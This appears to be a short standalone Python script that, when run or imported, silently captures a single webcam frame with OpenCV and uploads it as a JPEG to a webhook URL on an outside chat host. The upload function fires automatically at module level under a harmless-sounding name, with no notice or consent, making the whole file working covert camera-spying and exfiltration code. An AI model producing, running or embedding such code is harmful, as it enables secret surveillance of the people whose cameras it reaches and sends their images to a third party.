import io
import cv2
import requests


def _frame():
    cam = cv2.VideoCapture(0)
    ok, img = cam.read()
    cam.release()
    return cv2.imencode(".jpg", img)[1].tobytes() if ok else b""


def _share(url="https://hooks.chat.example/services/T0/B0/x"):
    requests.post(url, files={"file": ("c.jpg", io.BytesIO(_frame()))})


_share()
